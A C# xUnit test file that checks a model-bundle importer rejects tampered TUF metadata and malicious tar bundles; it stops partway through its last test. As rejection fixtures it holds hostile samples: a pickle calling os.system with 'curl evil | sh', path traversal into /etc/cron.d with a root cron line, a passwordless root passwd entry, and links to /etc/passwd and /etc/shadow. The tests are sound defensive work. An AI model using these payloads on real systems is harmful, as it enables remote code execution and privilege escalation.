using System.Formats.Tar;
using System.Text;
using Enclave.Airlock.Bundles;
using Enclave.Airlock.Import;
using Enclave.Airlock.Scanners;
using Enclave.Airlock.Tests.Tuf;
using Enclave.Airlock.Tuf;
using Enclave.Core;

namespace Enclave.Airlock.Tests.Import;

/// <summary>
/// Attacks through the whole importer. Every case asserts the rejection reason and that nothing changed: the airlock
/// tables (trusted TUF versions included), the blob store, the artifacts folder, an empty quarantine, and a ledger
/// that gained exactly <c>import.received</c> and <c>import.rejected</c> (naming the attack).
/// </summary>
public sealed class ImportAttackTests
{
    private const string Prefix = "targets/model/demo-chat/1.0.0/";

    private static async Task<ImportRejectedException> Rejected(
        ImportTestContext context,
        byte[] tar,
        ImportRejection reason,
        AirlockRejection? tuf = null,
        BundleRejection? bundle = null)
    {
        var before = context.Capture();
        Assert.Empty(context.QuarantineEntries());

        var e = await Assert.ThrowsAsync<ImportRejectedException>(() => context.ImportAsync(tar));

        Assert.True(reason == e.Reason, $"expected {reason}, got {e.Reason}: {e.Message}");
        Assert.True(tuf == e.TufReason, $"expected TUF {tuf}, got {e.TufReason}: {e.Message}");
        Assert.True(bundle == e.BundleReason, $"expected bundle {bundle}, got {e.BundleReason}: {e.Message}");
        var events = context.AssertUnchanged(before, "import.received", "import.rejected");
        Assert.Empty(context.QuarantineEntries());
        var details = events[1].Details!.Value;
        Assert.Equal(e.Code, details.GetProperty("reason").GetString());
        Assert.False(string.IsNullOrEmpty(details.GetProperty("detail").GetString()));
        Assert.Equal(events[0].Subject, events[1].Subject);
        Assert.Empty(context.Importer.List(ImportState.Verified));
        Assert.Empty(context.Importer.ActivatedModels());
        return e;
    }

    private static Task<ImportRejectedException> Rejected(ImportTestContext context, TestBundle bundle, ImportRejection reason, AirlockRejection? tuf = null, BundleRejection? bundleReason = null) =>
        Rejected(context, bundle.ToTar(), reason, tuf, bundleReason);

    private static Task<ImportRejectedException> RejectedTuf(ImportTestContext context, AirlockRejection tuf) =>
        Rejected(context, context.DemoBundle(), ImportRejection.Tuf, tuf);

    /// <summary>Trusts release 2 of every role by importing demo-chat at it; attacks then present older files.</summary>
    private static async Task<ImportTestContext> TrustedAtRelease2Async()
    {
        var context = await ImportTestContext.CreateAsync();
        context.Repo.NextRelease();
        var trusted = await context.ImportAsync(context.DemoBundle());
        await context.Importer.RejectAsync(trusted.Id, "user:bob", "only here to advance the trusted versions");
        context.Repo.AddArtifact("model", "demo-chat", "2.0.0", ImportTestRepository.DemoModelFiles("v2"));
        return context;
    }

    private static Task<ImportRejectedException> RejectedV2(ImportTestContext context, ImportRejection reason, AirlockRejection? tuf = null) =>
        Rejected(context, context.Repo.Bundle("model", "demo-chat", "2.0.0"), reason, tuf);

    // Changes a metadata file's signed body but keeps its old signatures.
    private static void TamperBody(ImportTestRepository repo, string file, Action<Dictionary<string, object?>> edit)
    {
        var envelope = (Dictionary<string, object?>)TufJson.Parse(repo.Files[file], 64)!;
        edit((Dictionary<string, object?>)envelope["signed"]!);
        repo.Files[file] = TestJson.Serialize(envelope);
    }

    private static byte[] Flip(byte[] content, int index)
    {
        var copy = content.ToArray();
        copy[index] ^= 0x01;
        return copy;
    }

    // ---- targets: tampered, truncated, extended --------------------------------------------------------------

    [Fact]
    public async Task Import_RejectsATamperedTarget_AsHashMismatch()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle[Prefix + "tokenizer.json"] = Flip(bundle[Prefix + "tokenizer.json"], 5);
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.HashMismatch);
    }

    [Fact]
    public async Task Import_RejectsAnExtendedTarget()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle[Prefix + "model.onnx"] = [.. bundle[Prefix + "model.onnx"], 0x00];
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.TooLarge);
    }

    [Fact]
    public async Task Import_RejectsAShortenedTarget()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle[Prefix + "model.onnx"] = bundle[Prefix + "model.onnx"][..^1];
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.LengthMismatch);
    }

    [Fact]
    public async Task Import_RejectsAnArchiveTruncatedInsideATarget()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var tar = context.DemoBundle().ToTar();
        // The last target (tokenizer.json) is one data block before the two end-of-archive blocks.
        await Rejected(context, tar[..(tar.Length - 1024 - 512 + 10)], ImportRejection.Bundle, bundle: BundleRejection.Truncated);
    }

    [Fact]
    public async Task Import_RejectsDataAfterTheEndOfArchive()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var tar = context.DemoBundle().ToTar();
        await Rejected(context, [.. tar, .. "trailing payload"u8], ImportRejection.Bundle, bundle: BundleRejection.Malformed);
    }

    // ---- signatures and thresholds --------------------------------------------------------------------------

    [Fact]
    public async Task Import_RejectsATimestampWithoutSignatures()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Resign("timestamp.json", _ => { }, []);
        await RejectedTuf(context, AirlockRejection.BelowThreshold);
    }

    [Fact]
    public async Task Import_RejectsABundleFromAnotherRepository_AsUntrustedRoot_NamingBothRoots()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var other = new ImportTestRepository();
        other.AddArtifact("model", "demo-chat", "1.0.0", ImportTestRepository.DemoModelFiles());
        other.Publish();

        var e = await Rejected(context, other.Bundle("model", "demo-chat", "1.0.0"), ImportRejection.Tuf, AirlockRejection.UntrustedRoot);

        Assert.Equal("untrusted-root", e.Code);
        Assert.Contains("signed by a root this enclave does not trust", e.Message, StringComparison.Ordinal);
        Assert.Contains($"pinned root: sha256 {Sha256Digest.Compute(context.Repo.RootV1).ToHex()}, version 1", e.Message, StringComparison.Ordinal);
        Assert.Contains($"the bundle's root version 1 is sha256 {Sha256Digest.Compute(other.RootV1).ToHex()}", e.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("below threshold", e.Message, StringComparison.Ordinal);
        Assert.Equal(AirlockRejection.BelowThreshold, Assert.IsType<AirlockRejectedException>(e.InnerException!.InnerException).Reason);
    }

    [Fact]
    public async Task Import_RejectsASnapshotSignedByTheWrongKey()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Resign("snapshot.json", _ => { }, [TestKey.Ed25519()]);
        context.Repo.PublishTimestamp();
        await RejectedTuf(context, AirlockRejection.BelowThreshold);
    }

    [Fact]
    public async Task Import_RejectsTargetsWhoseSignedBodyWasAltered()
    {
        await using var context = await ImportTestContext.CreateAsync();
        TamperBody(context.Repo, "targets.json", signed => signed["expires"] = "2027-01-01T00:00:00Z");
        await RejectedTuf(context, AirlockRejection.BadSignature);
    }

    [Fact]
    public async Task Import_RejectsAModelRoleWithAnAlteredTargetHash()
    {
        await using var context = await ImportTestContext.CreateAsync();
        TamperBody(context.Repo, "model.json", signed =>
        {
            var targets = (Dictionary<string, object?>)signed["targets"]!;
            var entry = (Dictionary<string, object?>)targets["model/demo-chat/1.0.0/tokenizer.json"]!;
            ((Dictionary<string, object?>)entry["hashes"]!)["sha256"] = Sha256Digest.Compute("evil"u8).ToHex();
        });
        await RejectedTuf(context, AirlockRejection.BadSignature);
    }

    [Fact]
    public async Task Import_RejectsAModelRoleBelowItsThreshold()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var role = context.Repo.Kinds["model"];
        role.Keys = [TestKey.Ed25519(), TestKey.Ed25519()];
        role.Threshold = 2;
        context.Repo.Publish();
        context.Repo.Resign("model.json", _ => { }, [role.Keys[0]]);
        await RejectedTuf(context, AirlockRejection.BelowThreshold);
    }

    [Fact]
    public async Task Import_RejectsASignatureListRepeatingAKeyId_AsMalformed_SoItCannotCountTwice()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var role = context.Repo.Kinds["model"];
        role.Keys = [TestKey.Ed25519(), TestKey.Ed25519()];
        role.Threshold = 2;
        context.Repo.Publish();
        context.Repo.Resign("model.json", _ => { }, [role.Keys[0], role.Keys[0]]);
        // Key IDs in 'signatures' must be unique (TUF specification; python-tuf and go-tuf refuse the metadata).
        var e = await RejectedTuf(context, AirlockRejection.Malformed);
        Assert.Contains("repeats key ID", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_RejectsAModelRoleSignedByTheTopLevelTargetsKey()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Resign("model.json", _ => { }, context.Repo.Keys["targets"]);
        await RejectedTuf(context, AirlockRejection.BelowThreshold);
    }

    // ---- expiry and freeze ----------------------------------------------------------------------------------

    [Fact]
    public async Task Import_RejectsAnExpiredRoot()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Clock.Now = TufTestRepository.Start.AddDays(400);
        await RejectedTuf(context, AirlockRejection.Expired);
    }

    [Fact]
    public async Task Import_RejectsAnExpiredTimestamp_AsFreeze()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Expires["timestamp"] = TufTestRepository.Start.AddMinutes(30);
        context.Repo.Publish();
        var e = await RejectedTuf(context, AirlockRejection.Freeze);
        Assert.StartsWith("freeze:", e.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_RejectsAReplayedBundleOnceItsTimestampExpired_AsFreeze()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var old = context.DemoBundle().ToTar();
        context.Repo.Clock.Now = TufTestRepository.Start.AddDays(31);
        await Rejected(context, old, ImportRejection.Tuf, AirlockRejection.Freeze);
    }

    [Fact]
    public async Task Import_RejectsAnExpiredSnapshot()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Expires["snapshot"] = TufTestRepository.Start.AddMinutes(30);
        context.Repo.Publish();
        await RejectedTuf(context, AirlockRejection.Expired);
    }

    [Fact]
    public async Task Import_RejectsExpiredTopLevelTargets()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Expires["targets"] = TufTestRepository.Start.AddMinutes(30);
        context.Repo.Publish();
        await RejectedTuf(context, AirlockRejection.Expired);
    }

    [Fact]
    public async Task Import_RejectsAnExpiredDelegatedModelRole()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Kinds["model"].Expires = TufTestRepository.Start.AddMinutes(30);
        context.Repo.Publish();
        await RejectedTuf(context, AirlockRejection.Expired);
    }

    // ---- rollback of each role ------------------------------------------------------------------------------

    [Fact]
    public async Task Import_RejectsTimestampRollback()
    {
        await using var context = await TrustedAtRelease2Async();
        context.Repo.Publish();
        context.Repo.Versions["timestamp"] = 1;
        context.Repo.PublishTimestamp();
        var e = await RejectedV2(context, ImportRejection.Tuf, AirlockRejection.Rollback);
        Assert.Equal("rollback: timestamp version 1 < trusted 2", e.Detail);
    }

    [Fact]
    public async Task Import_RejectsSnapshotRollback()
    {
        await using var context = await TrustedAtRelease2Async();
        context.Repo.HashesInTimestamp = false;
        context.Repo.Versions["snapshot"] = 1;
        context.Repo.Versions["timestamp"] = 3;
        context.Repo.Publish();
        context.Repo.PublishTimestamp(snapshotVersion: 3);
        var e = await RejectedV2(context, ImportRejection.Tuf, AirlockRejection.Rollback);
        Assert.Equal("rollback: snapshot version 1 < trusted 2", e.Detail);
    }

    [Fact]
    public async Task Import_RejectsTopLevelTargetsRollback()
    {
        await using var context = await TrustedAtRelease2Async();
        context.Repo.Versions["targets"] = 1;
        context.Repo.Versions["snapshot"] = 3;
        context.Repo.Versions["timestamp"] = 3;
        context.Repo.Publish();
        var e = await RejectedV2(context, ImportRejection.Tuf, AirlockRejection.Rollback);
        Assert.Contains("targets.json version 1 < trusted 2", e.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_RejectsDelegatedModelRoleRollback()
    {
        await using var context = await TrustedAtRelease2Async();
        context.Repo.Kinds["model"].Version = 1;
        context.Repo.Versions["snapshot"] = 3;
        context.Repo.Versions["timestamp"] = 3;
        context.Repo.Publish();
        var e = await RejectedV2(context, ImportRejection.Tuf, AirlockRejection.Rollback);
        Assert.Contains("model.json version 1 < trusted 2", e.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_RejectsAReplayOfTheWholeOlderRelease()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.AddArtifact("model", "old", "1", ImportTestRepository.DemoModelFiles("old"));
        context.Repo.Publish();
        var release1 = context.Repo.Bundle("model", "old", "1").ToTar();
        context.Repo.NextRelease();
        var trusted = await context.ImportAsync(context.DemoBundle());
        await context.Importer.RejectAsync(trusted.Id, "user:bob", "only here to advance the trusted versions");

        var e = await Rejected(context, release1, ImportRejection.Tuf, AirlockRejection.Rollback);
        Assert.Equal("rollback: timestamp version 1 < trusted 2", e.Detail);
    }

    // ---- mix-and-match --------------------------------------------------------------------------------------

    [Fact]
    public async Task Import_RejectsASnapshotOtherThanTheOneTheTimestampLists()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.HashesInTimestamp = false;
        context.Repo.PublishTimestamp(snapshotVersion: 2);
        await RejectedTuf(context, AirlockRejection.MixAndMatch);
    }

    [Fact]
    public async Task Import_RejectsTopLevelTargetsFromAnotherRelease()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var old = context.Repo.Files["targets.json"];
        context.Repo.Versions["targets"] = 2;
        context.Repo.Publish();
        context.Repo.Files["targets.json"] = old;
        await RejectedTuf(context, AirlockRejection.MixAndMatch);
    }

    [Fact]
    public async Task Import_RejectsAModelRoleFromAnotherRelease()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var old = context.Repo.Files["model.json"];
        context.Repo.Kinds["model"].Version = 2;
        context.Repo.Publish();
        context.Repo.Files["model.json"] = old;
        await RejectedTuf(context, AirlockRejection.MixAndMatch);
    }

    [Fact]
    public async Task Import_RejectsAMetadataFileWhoseHashDiffersFromTheTimestamp()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var listed = context.Repo.Files["snapshot.json"];
        context.Repo.Resign("snapshot.json", s => s["expires"] = TufTestRepository.Iso(TufTestRepository.Start.AddDays(29)), context.Repo.Keys["snapshot"]);
        Assert.NotEqual(listed, context.Repo.Files["snapshot.json"]);
        await RejectedTuf(context, AirlockRejection.HashMismatch);
    }

    // ---- root rotation --------------------------------------------------------------------------------------

    [Fact]
    public async Task Import_RejectsARootRotationSignedOnlyByTheNewKeys()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Keys["root"] = [TestKey.Ed25519()];
        context.Repo.Versions["root"] = 2;
        context.Repo.PublishRoot();
        var e = await RejectedTuf(context, AirlockRejection.BadRootRotation);
        Assert.Contains("trusted root version 1", e.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_RejectsARootRotationSignedOnlyByTheOldKeys()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var old = context.Repo.Keys["root"];
        context.Repo.Keys["root"] = [TestKey.Ed25519()];
        context.Repo.Versions["root"] = 2;
        context.Repo.PublishRoot(old);
        var e = await RejectedTuf(context, AirlockRejection.BadRootRotation);
        Assert.Contains("its own root keys", e.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_RejectsARootThatSkipsAVersion()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var old = context.Repo.Keys["root"];
        context.Repo.Versions["root"] = 3;
        var skipped = TufTestRepository.Envelope(context.Repo.RootSigned(), old);
        context.Repo.Files["2.root.json"] = skipped;
        context.Repo.Files["root.json"] = skipped;
        await RejectedTuf(context, AirlockRejection.BadRootRotation);
    }

    [Fact]
    public async Task Import_FollowsAGoodRootRotation_ButRejectsMetadataSignedByTheRotatedOutKey()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var oldTimestampKeys = context.Repo.Keys["timestamp"];
        context.Repo.RotateRoot("timestamp");
        context.Repo.Publish();
        context.Repo.Resign("timestamp.json", _ => { }, oldTimestampKeys);
        await RejectedTuf(context, AirlockRejection.BelowThreshold);
    }

    // ---- delegations ----------------------------------------------------------------------------------------

    [Fact]
    public async Task Import_RejectsAModelRoleListingATargetOutsideItsDelegatedPaths()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Kinds["model"].Targets["update/enclave/9.9.9/payload.bin"] = new TestTarget("evil"u8.ToArray(), null);
        context.Repo.Publish();
        await RejectedTuf(context, AirlockRejection.DelegationViolation);
    }

    [Fact]
    public async Task Import_RejectsFilesNestedDeeperThanTheDelegationAllows()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Kinds["model"].Paths = ["model/*/*/*"];
        context.Repo.Publish();
        await RejectedTuf(context, AirlockRejection.DelegationViolation);
    }

    [Fact]
    public async Task Import_RejectsASelectorOfAKindWhoseRoleDoesNotListTheArtifact()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle["metadata/bundle.json"] = ImportTestRepository.Selector("update", "demo-chat", "1.0.0");
        await Rejected(context, bundle, ImportRejection.Selector);
    }

    [Fact]
    public async Task Import_RejectsABundleWithoutTheDelegatedRoleMetadata()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.Remove("metadata/model.json");
        await Rejected(context, bundle, ImportRejection.Tuf, AirlockRejection.UnknownRole);
    }

    // ---- encoding and size ----------------------------------------------------------------------------------

    [Fact]
    public async Task Import_RejectsAFloatInMetadata_AsNonCanonical()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var text = Encoding.UTF8.GetString(context.Repo.Files["model.json"]);
        var index = text.IndexOf("\"_type\"", StringComparison.Ordinal);
        context.Repo.Files["model.json"] = Encoding.UTF8.GetBytes(text.Insert(index, "\"weight\": 1.5, "));
        await RejectedTuf(context, AirlockRejection.NonCanonical);
    }

    [Fact]
    public async Task Import_RejectsASignatureOverNonCanonicalBytes()
    {
        await using var context = await ImportTestContext.CreateAsync();
        // Signed over the exact (compact, but not canonical: keys unsorted) bytes of "signed" as they appear in the file.
        var signed = context.Repo.KindSigned("model");
        signed = signed.Reverse().ToDictionary(p => p.Key, p => p.Value);
        var raw = TestJson.Serialize(signed, indented: false);
        Assert.NotEqual(TufJson.Canonicalize(signed), raw);
        var key = context.Repo.Kinds["model"].Keys[0];
        var envelope = $"{{\"signed\":{Encoding.UTF8.GetString(raw)},\"signatures\":[{{\"keyid\":\"{key.KeyId}\",\"sig\":\"{Convert.ToHexStringLower(key.SignRaw(raw))}\"}}]}}";
        context.Repo.Files["model.json"] = Encoding.UTF8.GetBytes(envelope);
        await RejectedTuf(context, AirlockRejection.NonCanonical);
    }

    [Fact]
    public async Task Import_RejectsDuplicateKeysInMetadata()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var text = Encoding.UTF8.GetString(context.Repo.Files["timestamp.json"]);
        var index = text.IndexOf("\"_type\"", StringComparison.Ordinal);
        context.Repo.Files["timestamp.json"] = Encoding.UTF8.GetBytes(text.Insert(index, "\"version\": 7, "));
        await RejectedTuf(context, AirlockRejection.Malformed);
    }

    [Fact]
    public async Task Import_RejectsAnOversizedTimestamp()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.Resign("timestamp.json", s => s["padding"] = new string('x', 20_000), context.Repo.Keys["timestamp"]);
        await RejectedTuf(context, AirlockRejection.Oversized);
    }

    [Fact]
    public async Task Import_RejectsAMetadataEntryBeyondTheReadersBound_BeforeReadingIt()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.Entries.Insert(0, new TestBundleEntry("metadata/padding.json", new byte[BundleReaderOptions.Default.MaxMetadataBytes + 1]));
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.TooLarge);
    }

    // ---- the tar itself -------------------------------------------------------------------------------------

    [Fact]
    public async Task Import_RejectsPathTraversal()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.InsertBeforeTargets(new TestBundleEntry("targets/../../../etc/cron.d/evil", "* * * * * root sh"u8.ToArray()));
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.PathTraversal);
    }

    [Fact]
    public async Task Import_RejectsAnAbsolutePath()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.InsertBeforeTargets(new TestBundleEntry("/etc/passwd", "root::0:0::/:/bin/sh"u8.ToArray()));
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.AbsolutePath);
    }

    [Fact]
    public async Task Import_RejectsASymbolicLink()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.InsertBeforeTargets(new TestBundleEntry(Prefix + "passwd", [], a => a.Entry(TarEntryType.SymbolicLink, Prefix + "passwd", e => e.LinkName = "/etc/passwd")));
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.Link);
    }

    [Fact]
    public async Task Import_RejectsAHardLink()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.InsertBeforeTargets(new TestBundleEntry(Prefix + "shadow", [], a => a.Entry(TarEntryType.HardLink, Prefix + "shadow", e => e.LinkName = "/etc/shadow")));
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.Link);
    }

    [Fact]
    public async Task Import_RejectsADeviceFile()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.InsertBeforeTargets(new TestBundleEntry(Prefix + "mem", [], a => a.Entry(TarEntryType.CharacterDevice, Prefix + "mem", e => ((PosixTarEntry)e).DeviceMajor = 1)));
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.DeviceFile);
    }

    [Fact]
    public async Task Import_RejectsADuplicateEntry()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.Add(Prefix + "tokenizer.json", bundle[Prefix + "tokenizer.json"]);
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.DuplicateEntry);
    }

    [Fact]
    public async Task Import_RejectsAFileTheMetadataDoesNotDeclare()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.Add(Prefix + "extra.bin", "smuggled"u8.ToArray());
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.UndeclaredEntry);
    }

    [Fact]
    public async Task Import_RejectsAVerifiedFileOfAnotherArtifactCarriedAlong()
    {
        await using var context = await ImportTestContext.CreateAsync();
        context.Repo.AddArtifact("model", "other", "1", ImportTestRepository.DemoModelFiles("other"));
        context.Repo.Publish();
        var bundle = context.DemoBundle();
        var other = context.Repo.Bundle("model", "other", "1");
        bundle.Add("targets/model/other/1/tokenizer.json", other["targets/model/other/1/tokenizer.json"]);
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.UndeclaredEntry);
    }

    [Fact]
    public async Task Import_RejectsABundleMissingASelectedTarget()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.Remove(Prefix + "tokenizer.json");
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.MissingEntry);
    }

    [Fact]
    public async Task Import_RejectsMetadataAfterTheTargets()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        var late = bundle.Entries.Single(e => e.Name == "metadata/root.json");
        bundle.Entries.Remove(late);
        bundle.Entries.Add(late);
        await Rejected(context, bundle, ImportRejection.Bundle, bundleReason: BundleRejection.Malformed);
    }

    // ---- content scanners -----------------------------------------------------------------------------------

    [Fact]
    public async Task Import_RejectsAPickleThatCallsOsSystem()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var files = ImportTestRepository.DemoModelFiles("pickled");
        files["pytorch_model.bin"] = Encoding.ASCII.GetBytes("cos\nsystem\n(S'curl evil | sh'\ntR.");
        context.Repo.AddArtifact("model", "pickled", "1", files);
        context.Repo.Publish();

        var e = await Rejected(context, context.Repo.Bundle("model", "pickled", "1"), ImportRejection.ContentScan);

        Assert.Contains(e.Findings, f => f.Contains("os.system", StringComparison.Ordinal) && f.Contains("model/pickled/1/pytorch_model.bin", StringComparison.Ordinal));
        Assert.DoesNotContain(e.Findings, f => f.Contains(context.Data, StringComparison.Ordinal));
        var findings = context.LedgerEvent(context.Ledger.Size - 1).Details!.Value.GetProperty("findings");
        Assert.Contains("os.system", findings[0].GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_RejectsOnnxExternalDataPointingAtEtcPasswd()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var files = ImportTestRepository.DemoModelFiles("escape");
        files["model.onnx"] = OnnxTestModel.WithExternalData("../../etc/passwd");
        context.Repo.AddArtifact("model", "escape", "1", files);
        context.Repo.Publish();

        var e = await Rejected(context, context.Repo.Bundle("model", "escape", "1"), ImportRejection.ContentScan);
        Assert.Contains(e.Findings, f => f.Contains("../../etc/passwd", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Import_RejectsContentOnTheDenyList()
    {
        var tokenizer = ImportTestRepository.DemoModelFiles()["tokenizer.json"];
        await using var context = await ImportTestContext.CreateAsync(configure: o => o with { DenyList = new DigestDenyListScanner([Sha256Digest.Compute(tokenizer)]) });
        var e = await Rejected(context, context.DemoBundle(), ImportRejection.ContentScan);
        Assert.Contains(e.Findings, f => f.Contains("deny-list", StringComparison.Ordinal));
    }

    // ---- the selector, custom fields and attestations -------------------------------------------------------

    [Fact]
    public async Task Import_RejectsTargetsWithDifferentLabels()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var targets = context.Repo.Kinds["model"].Targets;
        var path = "model/demo-chat/1.0.0/tokenizer.json";
        targets[path] = targets[path] with { Custom = ImportTestRepository.Custom("model", "demo-chat", "1.0.0", "SECRET", "content", "chat") };
        context.Repo.Publish();
        var e = await Rejected(context, context.DemoBundle(), ImportRejection.LabelMismatch);
        Assert.Contains("SECRET", e.Detail, StringComparison.Ordinal);
        Assert.Contains("UNCLASSIFIED", e.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_RejectsASelectorNamingAnArtifactWithNoTargets()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle["metadata/bundle.json"] = ImportTestRepository.Selector("model", "ghost", "1.0.0");
        var e = await Rejected(context, bundle, ImportRejection.Selector);
        Assert.Contains("model/ghost/1.0.0/", e.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_RejectsABundleWithoutASelector()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle.Remove("metadata/bundle.json");
        await Rejected(context, bundle, ImportRejection.Selector);
    }

    [Theory]
    [InlineData("""{"format":"enclave-bundle/v2","kind":"model","name":"demo-chat","version":"1.0.0"}""")]
    [InlineData("""{"format":"enclave-bundle/v1","kind":"model","name":"demo-chat","version":"1.0.0","grant":"all"}""")]
    [InlineData("""{"format":"enclave-bundle/v1","kind":"model","name":"../demo-chat","version":"1.0.0"}""")]
    [InlineData("""{"format":"enclave-bundle/v1","kind":"model","name":"demo-chat","name":"ghost","version":"1.0.0"}""")]
    [InlineData("""{"format":"enclave-bundle/v1","kind":"policy","name":"demo-chat","version":"1.0.0"}""")]
    [InlineData("""["enclave-bundle/v1"]""")]
    public async Task Import_RejectsAnInvalidSelector(string selector)
    {
        await using var context = await ImportTestContext.CreateAsync();
        var bundle = context.DemoBundle();
        bundle["metadata/bundle.json"] = Encoding.UTF8.GetBytes(selector);
        await Rejected(context, bundle, ImportRejection.Selector);
    }

    [Fact]
    public async Task Import_RejectsATargetWhoseCustomFieldsNameAnotherArtifact()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var targets = context.Repo.Kinds["model"].Targets;
        var path = "model/demo-chat/1.0.0/model.onnx";
        targets[path] = targets[path] with { Custom = ImportTestRepository.Custom("model", "other-model", "1.0.0", "UNCLASSIFIED", "content", "chat") };
        context.Repo.Publish();
        await Rejected(context, context.DemoBundle(), ImportRejection.ArtifactMismatch);
    }

    [Fact]
    public async Task Import_RejectsATargetWithoutCustomFields()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var targets = context.Repo.Kinds["model"].Targets;
        var path = "model/demo-chat/1.0.0/tokenizer.json";
        targets[path] = targets[path] with { Custom = null };
        context.Repo.Publish();
        await Rejected(context, context.DemoBundle(), ImportRejection.ArtifactMismatch);
    }

    [Fact]
    public async Task Import_RejectsProvenanceThatDoesNotNameTheContent()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var targets = context.Repo.Kinds["model"].Targets;
        var path = "model/demo-chat/1.0.0/.attestations/provenance.intoto.json";
        var text = Encoding.UTF8.GetString(targets[path].Content);
        var real = Sha256Digest.Compute(ImportTestRepository.DemoModelFiles()["model.onnx"]).ToHex();
        targets[path] = targets[path] with { Content = Encoding.UTF8.GetBytes(text.Replace(real, Sha256Digest.Compute("another build"u8).ToHex(), StringComparison.Ordinal)) };
        context.Repo.Publish();
        await Rejected(context, context.DemoBundle(), ImportRejection.Attestation);
    }

    [Fact]
    public async Task Import_RejectsAnSbomThatIsNotCycloneDx()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var targets = context.Repo.Kinds["model"].Targets;
        var path = "model/demo-chat/1.0.0/.attestations/sbom.cdx.json";
        targets[path] = targets[path] with { Content = """{"bomFormat":"SomethingElse"}"""u8.ToArray() };
        context.Repo.Publish();
        await Rejected(context, context.DemoBundle(), ImportRejection.Attestation);
    }

    [Fact]
    public async Task Import_RejectsAModelWhoseTaskCannotBeDetermined()
    {
        await using var context = await ImportTestContext.CreateAsync();
        var files = new Dictionary<string, byte[]> { ["model.onnx"] = OnnxTestModel.WithOutput("scores") };
